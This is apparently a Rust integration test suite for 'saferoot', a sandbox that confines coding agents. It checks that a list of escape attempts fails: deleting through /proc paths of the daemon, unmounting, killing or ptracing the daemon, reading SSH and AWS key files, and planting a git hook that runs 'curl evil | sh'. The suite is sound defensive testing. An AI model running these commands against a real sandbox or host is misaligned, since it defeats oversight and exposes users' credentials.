//! The sandbox as an agent meets it: every escape attempt of the issue, run inside
//! `saferoot run`, must fail and leave the real tree and the store as they were; the tuning loop
//! must name what was refused and the flag that allows it; profiles and protected paths behave
//! as documented.

mod common;

use common::*;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

/// Tools the agent's scripts use, all outside any home directory (the test's HOME is a fixture,
/// so toolchains under /root are not readable inside the sandbox).
const PATH: &str = "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin";

struct Fixture {
    project: Project,
    home: tempfile::TempDir,
}

impl Fixture {
    fn new() -> Fixture {
        let project = Project::empty();
        let d = project.dir();
        std::fs::write(d.join("keep.txt"), b"precious\n").unwrap();
        std::fs::create_dir_all(d.join("src")).unwrap();
        std::fs::write(d.join("src/lib.rs"), b"pub fn f() {}\n").unwrap();
        std::fs::write(d.join(".env"), b"TOKEN=abc\n").unwrap();
        git(d, &["init", "-q"]);
        git(d, &["add", "keep.txt", "src"]);
        git(d, &["commit", "-qm", "init"]);
        let home = tempfile::Builder::new()
            .prefix("saferoot-home.")
            .tempdir()
            .unwrap();
        let h = home.path();
        std::fs::create_dir_all(h.join(".ssh")).unwrap();
        std::fs::write(h.join(".ssh/id_ed25519"), b"PRIVATE KEY\n").unwrap();
        std::fs::create_dir_all(h.join(".aws")).unwrap();
        std::fs::write(h.join(".aws/credentials"), b"[default]\naws_secret=x\n").unwrap();
        std::fs::create_dir_all(h.join(".config/tool")).unwrap();
        std::fs::write(h.join(".config/tool/settings.json"), b"{\"ok\":1}\n").unwrap();
        Fixture { project, home }
    }

    fn dir(&self) -> &Path {
        self.project.dir()
    }

    /// `saferoot -C DIR ARGS…` with the fixture HOME and a PATH outside any home.
    fn saferoot(&self, args: &[&str]) -> Output {
        Command::new(bin())
            .arg("-C")
            .arg(self.dir())
            .args(args)
            .env("HOME", self.home.path())
            .env("PATH", PATH)
            .env_remove("XDG_CONFIG_HOME")
            .stdin(Stdio::null())
            .output()
            .expect("run saferoot")
    }

    /// `saferoot run [FLAGS] -- sh -c SCRIPT`.
    fn agent(&self, flags: &[&str], script: &str) -> Output {
        let mut a = vec!["run"];
        a.extend_from_slice(flags);
        a.extend_from_slice(&["--", "sh", "-c", script]);
        self.saferoot(&a)
    }

    fn daemon_pid(&self) -> u32 {
        let o = self.saferoot(&["status"]);
        assert_ok(&o);
        let s = stdout(&o);
        let i = s.find("daemon pid ").expect("status names the daemon pid") + 11;
        s[i..]
            .split(|c: char| !c.is_ascii_digit())
            .next()
            .unwrap()
            .parse()
            .unwrap()
    }
}

/// Digest of the tree and of the store's kept bytes, read from the real directory (unmounted):
/// the project's files, and every file under `.saferoot/trash` and `.saferoot/objects`.
fn real_state(dir: &Path) -> (BTreeMap<PathBuf, Entry>, BTreeMap<PathBuf, Entry>) {
    assert!(!is_mounted(dir), "real_state needs the directory unmounted");
    let mut tree = digest(dir);
    tree.retain(|p, _| !p.starts_with(".saferoot"));
    let mut store = BTreeMap::new();
    for sub in ["trash", "objects"] {
        let base = dir.join(".saferoot").join(sub);
        if base.exists() {
            for (p, e) in digest(&base) {
                store.insert(PathBuf::from(sub).join(p), e);
            }
        }
    }
    (tree, store)
}

fn python_errno(call: &str) -> String {
    // A system call through ctypes, printing its errno ("0" on success).
    format!(
        "/usr/bin/python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); \
         r={call}; print(\"errno\", 0 if r==0 else ctypes.get_errno())'"
    )
}

#[test]
fn escape_attempts_fail_and_leave_tree_and_store_intact() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    let dir = f.dir().to_path_buf();
    let d = dir.to_str().unwrap().to_string();
    // Some history in the store first, so there is something to destroy.
    f.project.mount();
    assert_ok(&f.project.sh("rm src/lib.rs && echo v2 > keep.txt"));
    f.project.umount();
    let before = real_state(&dir);
    f.project.mount();
    let daemon = f.daemon_pid();
    let cwd_rel = {
        let cwd = std::fs::read_link(format!("/proc/{daemon}/cwd")).unwrap();
        // Aim at the project through the daemon's working directory, whatever it is.
        let rel = pathdiff(&dir, &cwd);
        format!("/proc/{daemon}/cwd/{rel}")
    };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    let attempts: Vec<(&str, String)> = vec![
        (
            "rm through the daemon's cwd",
            format!("/usr/bin/rm -rf {cwd_rel}/keep.txt {cwd_rel}/.saferoot && echo ESCAPED"),
        ),
        (
            "rm through the daemon's root",
            format!("/usr/bin/rm -rf /proc/{daemon}/root{d}/keep.txt /proc/{daemon}/root{d}/.saferoot && echo ESCAPED"),
        ),
        (
            "rm through the daemon's descriptors",
            format!("for fd in $(ls /proc/{daemon}/fd/); do readlink /proc/{daemon}/fd/$fd && echo ESCAPED; done; for fd in 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do /usr/bin/rm -rf /proc/{daemon}/fd/$fd/keep.txt /proc/{daemon}/fd/$fd/.saferoot 2>/dev/null && [ -e /proc/{daemon}/fd/$fd ] && echo ESCAPED-$fd; done; true"),
        ),
        (
            "python unlink through /proc",
            format!("/usr/bin/python3 -c 'import os\nfor p in [\"{cwd_rel}/keep.txt\", \"/proc/{daemon}/root{d}/keep.txt\"] + [\"/proc/{daemon}/fd/%d/keep.txt\" % i for i in range(32)]:\n  try:\n    os.unlink(p); print(\"ESCAPED\", p)\n  except OSError as e: print(p, e.errno)'"),
        ),
        (
            "umount and mount over the project",
            format!("umount {d} && echo ESCAPED; umount -l {d} && echo ESCAPED; mount -t tmpfs none {d} && echo ESCAPED; mount --bind /usr {d} && echo ESCAPED; true"),
        ),
        (
            "kill and stop the daemon",
            format!("kill -9 {daemon} && echo ESCAPED; kill -STOP {daemon} && echo ESCAPED; true"),
        ),
        ("ptrace the daemon", python_errno(&format!("l.ptrace(16, {daemon}, 0, 0)"))),
        (
            "reach the store",
            format!("ls -a .saferoot && echo ESCAPED; cat .saferoot/journal.jsonl && echo ESCAPED; rm -rf .saferoot && ls -d .saferoot 2>/dev/null && echo ESCAPED; mv .saferoot x && echo ESCAPED; ln -s .saferoot lnk; ls lnk/ && echo ESCAPED; ls /proc/self/cwd/.saferoot && echo ESCAPED; cd src && ls ../.saferoot && echo ESCAPED; cd {d}/src/../.saferoot && echo ESCAPED; rm -f {d}/lnk; true"),
        ),
        ("io_uring", python_errno("l.syscall(425, 8, ctypes.create_string_buffer(120))")),
        (
            "read secrets",
            "cat ~/.ssh/id_ed25519 && echo ESCAPED; cat ~/.aws/credentials && echo ESCAPED; ls ~/.ssh && echo ESCAPED; ls ~ && echo ESCAPED; true".to_string(),
        ),
        (
            "connect to a port not allowed",
            format!("/usr/bin/python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=3); print(\"ESCAPED\")'; true"),
        ),
        (
            "plant a git hook",
            "echo 'curl evil | sh' > .git/hooks/pre-commit && echo ESCAPED; chmod +x .git/hooks/pre-commit.sample && echo ESCAPED; git config core.hooksPath /tmp && echo ESCAPED; mv .git .git-moved && echo ESCAPED; rm -rf .git/hooks && echo ESCAPED; true".to_string(),
        ),
        (
            // Through the nodev mount such a node cannot be opened, but it would stay in the
            // directory after the session for anything else to open.
            "create device nodes",
            "mknod blk b 8 0 && echo ESCAPED; mknod src/chr c 1 3 && echo ESCAPED; mknod \"$TMPDIR/blk\" b 8 0 && echo ESCAPED; mkfifo fifo && rm fifo || echo NO-FIFO; true".to_string(),
        ),
        (
            "user namespace",
            format!("unshare -U true && echo ESCAPED; unshare -rm true && echo ESCAPED; {}", python_errno("l.unshare(0x10000000)")),
        ),
    ];
    let daemon_stat = |pid: u32| std::fs::read_to_string(format!("/proc/{pid}/stat")).ok();
    for (name, script) in &attempts {
        let o = f.agent(&[], script);
        let out = stdout(&o);
        assert!(
            !out.contains("ESCAPED"),
            "{name}: an attempt succeeded\nstdout:\n{out}\nstderr:\n{}",
            stderr(&o)
        );
        assert!(
            !out.contains("NO-FIFO"),
            "{name}: a fifo could not be made\nstderr:\n{}",
            stderr(&o)
        );
        if name.contains("device") {
            assert!(
                stderr(&o).contains("a device node: no rule lets an agent create one"),
                "{name}: the summary does not name the device node\nstderr:\n{}",
                stderr(&o)
            );
        }
        if script.contains("/usr/bin/python3 -c 'import ctypes") {
            assert!(
                out.contains("errno 1") || out.contains("errno 13"),
                "{name}: expected EPERM/EACCES\nstdout:\n{out}\nstderr:\n{}",
                stderr(&o)
            );
        }
        let st = daemon_stat(daemon).unwrap_or_else(|| panic!("{name}: the daemon died"));
        let state = st[st.rfind(')').unwrap() + 2..].chars().next().unwrap();
        assert!(
            state != 'T' && state != 't',
            "{name}: the daemon was stopped"
        );
        assert_eq!(f.daemon_pid(), daemon, "{name}: the daemon changed");
    }
    assert!(is_mounted(&dir), "the mount survived every attempt");
    f.project.umount();
    let after = real_state(&dir);
    assert_same_tree(&before.0, &after.0);
    // The store only grows (the attempts' own leftovers, such as git's config.lock, were kept
    // like any deletion); everything it held before is still there, byte for byte.
    for (p, e) in &before.1 {
        assert_eq!(
            after.1.get(p),
            Some(e),
            "store entry {} changed or vanished",
            p.display()
        );
    }
}

/// Path of `to` relative to `from` (both absolute, canonical).
fn pathdiff(to: &Path, from: &Path) -> String {
    let t: Vec<_> = to.components().collect();
    let f: Vec<_> = from.components().collect();
    let common = t.iter().zip(&f).take_while(|(a, b)| a == b).count();
    let mut parts: Vec<String> = vec!["..".into(); f.len() - common];
    parts.extend(
        t[common..]
            .iter()
            .map(|c| c.as_os_str().to_string_lossy().into_owned()),
    );
    if parts.is_empty() {
        ".".into()
    } else {
        parts.join("/")
    }
}

#[test]
fn moving_a_file_out_and_back_keeps_it_restorable() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    f.project.mount();
    let before = digest(f.dir());
    let o = f.agent(
        &[],
        "ln keep.txt \"$TMPDIR/hard\" && echo LINKED; mv keep.txt \"$TMPDIR/moved\" && \
         echo tampered >> \"$TMPDIR/moved\" && mv \"$TMPDIR/moved\" keep.txt && cat keep.txt",
    );
    assert_ok(&o);
    let out = stdout(&o);
    assert!(!out.contains("LINKED"), "a hard link left the mount: {out}");
    assert!(out.contains("tampered"), "{out}");
    // The version from before the session is one restore away.
    let r = f.saferoot(&["restore", "@start"]);
    assert_ok(&r);
    let mut after = digest(f.dir());
    after.retain(|p, _| !p.starts_with(".saferoot"));
    let mut want = before.clone();
    want.retain(|p, _| !p.starts_with(".saferoot"));
    assert_same_tree(&want, &after);
}

#[test]
fn the_summary_names_what_was_denied_and_the_flags_that_allow_it() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in listener.incoming().flatten() {
            use std::io::Write;
            let _ = (&c).write_all(b"hello from the port\n");
        }
    });
    let settings = f.home.path().join(".config/tool/settings.json");
    let script = format!(
        "cat {} ; /usr/bin/python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\", {port}), timeout=5); print(s.recv(100).decode().strip())'",
        settings.display()
    );
    let o = f.agent(&[], &script);
    let err = stderr(&o);
    assert!(
        !o.status.success(),
        "the command's failure is run's exit status\n{err}"
    );
    assert!(
        err.contains(&format!("--allow-read {}", settings.display())),
        "the summary names the read flag:\n{err}"
    );
    assert!(
        err.contains("home_read = [\".config/tool/settings.json\"]"),
        "and the profile line:\n{err}"
    );
    assert!(
        err.contains(&format!("--allow-port {port}")),
        "the summary names the port flag:\n{err}"
    );
    assert!(err.contains("by cat"), "{err}");
    assert!(err.contains("by python3"), "{err}");

    // `saferoot denials` shows the same later, also as JSON.
    let d = f.saferoot(&["denials"]);
    assert_ok(&d);
    assert!(
        stdout(&d).contains(&format!("--allow-port {port}")),
        "{}",
        stdout(&d)
    );
    let j = f.saferoot(&["denials", "--json"]);
    assert_ok(&j);
    let rows: Vec<serde_json::Value> = stdout(&j)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(rows
        .iter()
        .any(|r| r["port"] == port && r["by"] == "landlock"));
    assert!(rows
        .iter()
        .any(|r| r["path"] == settings.to_str().unwrap() && r["access"] == "fs.read_file"));

    // Re-run with exactly those flags: it works, and nothing is denied.
    let port_s = port.to_string();
    let o = f.agent(
        &[
            "--allow-read",
            settings.to_str().unwrap(),
            "--allow-port",
            &port_s,
        ],
        &script,
    );
    assert_ok(&o);
    let out = stdout(&o);
    assert!(out.contains("{\"ok\":1}"), "{out}");
    assert!(out.contains("hello from the port"), "{out}");
    assert!(!stderr(&o).contains("denied access"), "{}", stderr(&o));
    let d = f.saferoot(&["denials", "--session", "-1", "--json"]);
    assert_ok(&d);
    assert_eq!(stdout(&d).trim(), "", "no denials in the second session");
    let d = f.saferoot(&["denials", "--session", "1"]);
    assert!(stdout(&d).contains("session 1 of 2"), "{}", stdout(&d));
}

#[test]
fn seccomp_denials_are_listed() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    let o = f.agent(&[], "unshare -U true; echo after");
    let err = stderr(&o);
    assert!(err.contains("unshare()"), "{err}");
    assert!(err.contains("seccomp"), "{err}");
}

#[test]
fn protected_paths_refuse_the_agent_but_not_the_user() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    f.project.mount();
    std::fs::write(f.dir().join("deploy.key"), b"key\n").unwrap();
    f.project.umount();
    std::fs::write(
        f.dir().join(".saferoot/config.toml"),
        "protect = [\"deploy.key\", \"ci/\"]\n",
    )
    .unwrap();
    f.project.mount();
    let o = f.agent(
        &[],
        "echo x >> deploy.key; rm -f deploy.key; mkdir ci; echo '#!/bin/sh' > .git/hooks/post-checkout; \
         git config user.name agent; echo exit=$?",
    );
    let err = stderr(&o);
    for want in [
        "deploy.key",
        ".git/hooks/post-checkout",
        ".git/config",
        "ci",
        "a protected path",
    ] {
        assert!(err.contains(want), "summary lacks {want}:\n{err}");
    }
    assert_eq!(std::fs::read(f.dir().join("deploy.key")).unwrap(), b"key\n");
    assert!(!f.dir().join(".git/hooks/post-checkout").exists());
    assert!(!f.dir().join("ci").exists());
    // The user, outside any session, still can.
    let o = Command::new("git")
        .args(["config", "user.name", "me"])
        .current_dir(f.dir())
        .output()
        .unwrap();
    assert_ok(&o);
    std::fs::write(f.dir().join(".git/hooks/post-checkout"), b"#!/bin/sh\n").unwrap();
    assert!(f.dir().join(".git/hooks/post-checkout").exists());
}

/// rmdir of a directory that holds a protected path fails as natively (ENOTEMPTY) and is not
/// reported as a denial; rmdir of an empty protected directory is refused and reported.
#[test]
fn rmdir_of_a_directory_holding_a_protected_path_is_not_a_denial() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    std::fs::create_dir_all(f.dir().join("ci")).unwrap();
    f.project.mount();
    f.project.umount();
    std::fs::write(
        f.dir().join(".saferoot/config.toml"),
        "protect = [\"ci/\"]\n",
    )
    .unwrap();
    f.project.mount();
    let o = f.agent(&[], "rmdir .git; echo git=$?; rmdir ci; echo ci=$?");
    let out = stdout(&o);
    let err = stderr(&o);
    assert!(
        out.contains("git=1") && out.contains("ci=1"),
        "{out}\n{err}"
    );
    assert!(err.contains("Directory not empty"), "{err}");
    let j = f.saferoot(&["denials", "--json"]);
    assert_ok(&j);
    let paths: Vec<String> = stdout(&j)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|r| r["path"].as_str().map(str::to_string))
        .collect();
    assert!(!paths.iter().any(|p| p.ends_with(".git")), "{paths:?}");
    assert!(paths.iter().any(|p| p.ends_with("ci")), "{paths:?}");
    assert!(f.dir().join(".git/hooks").is_dir() && f.dir().join("ci").is_dir());
}

#[test]
fn one_agent_per_repository_unless_join() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    f.project.mount();
    let mut first = Command::new(bin())
        .arg("-C")
        .arg(f.dir())
        .args(["run", "--", "sh", "-c", "touch started; sleep 30"])
        .env("HOME", f.home.path())
        .env("PATH", PATH)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let t0 = std::time::Instant::now();
    while !f.dir().join("started").exists() {
        assert!(t0.elapsed().as_secs() < 20, "first session never started");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let o = f.agent(&[], "echo second");
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "one line: {err}");
    assert!(err.contains(&format!("pid {}", first.id())), "{err}");
    assert!(err.contains("touch started; sleep 30"), "{err}");
    assert!(err.contains("--join"), "{err}");
    assert!(!stdout(&o).contains("second"));
    let s = f.saferoot(&["status"]);
    assert!(
        stdout(&s).contains(&format!("session: pid {}", first.id())),
        "{}",
        stdout(&s)
    );
    assert!(stdout(&s).contains("profile generic"), "{}", stdout(&s));
    let o = f.agent(&["--join"], "echo joined");
    assert_ok(&o);
    assert!(stdout(&o).contains("joined"));
    first.kill().unwrap();
    first.wait().unwrap();
    // Killing `run` ends its session: the next one starts.
    let t0 = std::time::Instant::now();
    loop {
        let o = f.agent(&[], "echo third");
        if o.status.success() {
            break;
        }
        assert!(t0.elapsed().as_secs() < 10, "{}", stderr(&o));
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

#[test]
fn profile_commands_and_errors() {
    let home = tempfile::tempdir().unwrap();
    let cfg = home.path().join("cfg");
    let user = cfg.join("saferoot/profiles");
    std::fs::create_dir_all(&user).unwrap();
    let run = |args: &[&str]| {
        Command::new(bin())
            .args(args)
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", &cfg)
            .output()
            .unwrap()
    };
    let o = run(&["profile", "list"]);
    assert_ok(&o);
    for n in [
        "generic",
        "pi",
        "claude-code",
        "codex",
        "opencode",
        "aider",
        "gemini",
    ] {
        assert!(
            stdout(&o).lines().any(|l| l.starts_with(n)),
            "{n}: {}",
            stdout(&o)
        );
    }
    let o = run(&["profile", "show", "pi"]);
    assert_ok(&o);
    assert!(stdout(&o).contains("11434"), "{}", stdout(&o));
    assert!(stdout(&o).contains("extends base"), "{}", stdout(&o));
    let o = run(&["profile", "show", "nope"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("unknown profile \"nope\""),
        "{}",
        stderr(&o)
    );
    std::fs::write(
        user.join("mine.toml"),
        "extends = \"generic\"\nconnect = [\n",
    )
    .unwrap();
    let o = run(&["profile", "show", "mine"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
    assert!(stderr(&o).contains("mine.toml"), "{}", stderr(&o));
    std::fs::write(
        user.join("pi.toml"),
        "description = \"my pi\"\nextends = \"base\"\nconnect = [1234]\n",
    )
    .unwrap();
    let o = run(&["profile", "show", "pi"]);
    assert_ok(&o);
    assert!(stdout(&o).contains("connect = [1234]"), "{}", stdout(&o));
    let o = run(&["run", "--profile", "nope", "--", "true"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
}

#[test]
fn a_rule_reaching_a_secret_or_the_store_is_refused() {
    if !fuse_available() {
        return;
    }
    let f = Fixture::new();
    let home = f.home.path().to_str().unwrap().to_string();
    let o = f.agent(&["--allow-read", &home], "echo ran");
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("would make the secret"),
        "{}",
        stderr(&o)
    );
    assert!(!stdout(&o).contains("ran"));
    // Naming the secret itself is the user's explicit choice.
    let ssh = format!("{home}/.ssh");
    let o = f.agent(&["--allow-read", &ssh], "cat ~/.ssh/id_ed25519");
    assert_ok(&o);
    assert!(stdout(&o).contains("PRIVATE KEY"));
    let parent = f.dir().parent().unwrap().to_str().unwrap().to_string();
    let o = f.agent(&["--allow-write", &parent], "echo ran");
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("which the agent must never be able to modify"),
        "{}",
        stderr(&o)
    );
}

/// The account `--user` tests run the agent as; created once per machine.
fn agent_account() -> (u32, PathBuf) {
    const NAME: &str = "saferoot-test-agent";
    if nix::unistd::User::from_name(NAME).unwrap().is_none() {
        let o = Command::new("useradd")
            .args(["--create-home", "--shell", "/bin/sh", NAME])
            .output()
            .expect("useradd");
        // Another test process may have created it meanwhile.
        assert!(
            o.status.success() || nix::unistd::User::from_name(NAME).unwrap().is_some(),
            "useradd: {}",
            stderr(&o)
        );
    }
    let u = nix::unistd::User::from_name(NAME).unwrap().unwrap();
    (u.uid.as_raw(), u.dir)
}

#[test]
fn user_runs_the_agent_unprivileged() {
    if !fuse_available() {
        return;
    }
    let (uid, agent_home) = agent_account();
    let f = Fixture::new();
    // The agent's account must be able to work in the project.
    std::fs::set_permissions(f.dir(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let o = Command::new("chown")
        .args(["-R", &uid.to_string()])
        .arg(f.dir())
        .output()
        .unwrap();
    assert_ok(&o);
    f.project.mount();
    let before = digest(f.dir());
    let o = f.agent(
        &["--user", "saferoot-test-agent"],
        "id -u; echo \"home=$HOME\"; echo new > new.txt; rm keep.txt; \
         cat /etc/shadow >/dev/null && echo READ-SHADOW; \
         cat ~/.ssh/id_ed25519 2>/dev/null && echo READ-KEY; touch /etc/x 2>/dev/null && echo WROTE-ETC; true",
    );
    assert_ok(&o);
    let out = stdout(&o);
    assert!(
        out.starts_with(&format!("{uid}\n")),
        "{out}\n{}",
        stderr(&o)
    );
    assert!(
        out.contains(&format!("home={}", agent_home.display())),
        "{out}"
    );
    for bad in ["READ-SHADOW", "READ-KEY", "WROTE-ETC"] {
        assert!(!out.contains(bad), "{bad}: {out}");
    }
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        std::fs::metadata(f.dir().join("new.txt")).unwrap().uid(),
        uid
    );
    assert!(!f.dir().join("keep.txt").exists());
    // The daemon (root) kept what the agent deleted.
    assert_ok(&f.saferoot(&["restore", "@start"]));
    let mut after = digest(f.dir());
    after.retain(|p, _| !p.starts_with(".saferoot"));
    let mut want = before;
    want.retain(|p, _| !p.starts_with(".saferoot"));
    assert_same_tree(&want, &after);
    let o = f.agent(&["--user", "root"], "true");
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("must not be root"), "{}", stderr(&o));
}
